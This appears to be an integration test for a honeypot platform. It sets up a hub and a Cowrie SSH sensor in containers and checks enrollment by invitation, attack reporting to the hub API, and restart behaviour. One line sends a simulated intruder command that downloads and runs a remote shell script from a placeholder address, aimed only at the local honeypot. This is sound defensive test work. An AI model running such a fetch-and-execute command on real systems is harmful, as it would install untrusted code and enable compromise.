import { type ChildProcess, spawn } from 'node:child_process';
import { once } from 'node:events';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { SourceList } from '@cerberusmesh/contract/api-sources';
import { buildImage } from './build-image.ts';
import type { Composed } from './compose.ts';
import { composeHere } from './compose-here.ts';
import { ensureBases } from './container-bases.ts';
import { attack, freePort, run, until, untilHealthy, untilOnApi } from './support.ts';

const sensorName = 'north-1';

/**
 * Claim: the composed hub and, composed for itself, the profile `sensor` with a Cowrie find each other by an invitation in a file that is good
 * once; an attack there is on the hub's API under the sensor's name, changes that Cowrie, and the sensor goes on after a restart without
 * the invitation. Needs what `containers` needs.
 */
export async function proveSensor(): Promise<object> {
  const bases = ensureBases();
  buildImage(bases);
  const [page, hubPort, ssh] = [await freePort(), await freePort(), await freePort()];
  const url = `http://127.0.0.1:${page}`;
  const hub = await composeHere('hub', bases, {
    CERBERUS_PAGE: `127.0.0.1:${page}`,
    CERBERUS_HUB: `127.0.0.1:${hubPort}`,
  });
  const north = await composeHere('north', bases, { COWRIE_SSH: `127.0.0.1:${ssh}` });
  let relay: ChildProcess | undefined;
  try {
    for (const service of ['database', 'ml', 'engine']) await hub.composed.up(service);
    await untilHealthy(url);
    const token = await until('the first token', 20, () => /(cm_\S+)/.exec(hub.composed.logsOf('engine'))?.[1]);
    const ask = async (path: string) =>
      await (await fetch(`${url}${path}`, { headers: { authorization: `Bearer ${token}` } })).text();

    await north.composed.up('cowrie');
    // Networks of two composed systems are kept apart on one machine, so the way between them leads over this machine's own address.
    const [child, relayPort] = await startRelay(hubPort);
    relay = child;
    const address = `https://${north.composed.gatewayOf('page')}:${relayPort}`;
    const invite = ['sensors', 'invite', sensorName, '--hub', address];
    const invitation = join(north.folder, 'secrets', 'invitation');
    writeFileSync(invitation, hub.composed.once('engine', invite));
    await north.composed.up('sensor');
    await until(
      'an enrolled sensor',
      60,
      () => north.composed.logsOf('sensor').includes('The sensor is up') || undefined,
    );

    const words = 'cd /tmp; wget http://203.0.113.9/north.sh; chmod +x north.sh; ./north.sh';
    await until('a shell in Cowrie', 60, async () => {
      await attack({ port: ssh, command: words });
      return true;
    });
    await untilOnApi(url, token, 'north.sh', 60);
    await until(
      'a verified adaptation',
      120,
      async () => (await ask('/api/adaptations')).includes('"verified"') || undefined,
    );
    await restartWithout(invitation, north.composed);
    await attack({ port: ssh, command: 'echo after-the-restart' });
    await untilOnApi(url, token, 'after-the-restart', 60);
    const { data } = SourceList.parse(JSON.parse(await ask('/api/sources')));
    const { balanced, lines_stored } = data.find(({ place }) => place === sensorName) ?? {};
    if (!balanced) throw new Error(`The sensor's ledger does not balance: ${JSON.stringify(data)}`);
    return {
      bases: [...bases.values()],
      adaptationVerified: true,
      goesOnWithoutInvitation: true,
      balanced,
      lines_stored,
    };
  } finally {
    relay?.kill();
    hub.remove();
    north.remove();
  }
}

async function restartWithout(invitation: string, composed: Composed): Promise<void> {
  const name = composed.nameOf('sensor');
  run('podman', ['stop', '--time=30', name]);
  const exitCode = Number(run('podman', ['inspect', '--format={{.State.ExitCode}}', name]));
  if (exitCode !== 0) throw new Error(`SIGTERM should have ended the sensor in order; it ended with ${exitCode}.`);
  writeFileSync(invitation, '');
  run('podman', ['start', name]);
}

/** In a process of its own, since ours waits for podman. */
async function startRelay(port: number): Promise<[ChildProcess, number]> {
  const child = spawn(process.execPath, [join(import.meta.dirname, 'relay.ts'), String(port)], {
    stdio: ['ignore', 'pipe', 'inherit'],
  });
  const [said] = await once(child.stdout, 'data');
  return [child, Number(String(said))];
}
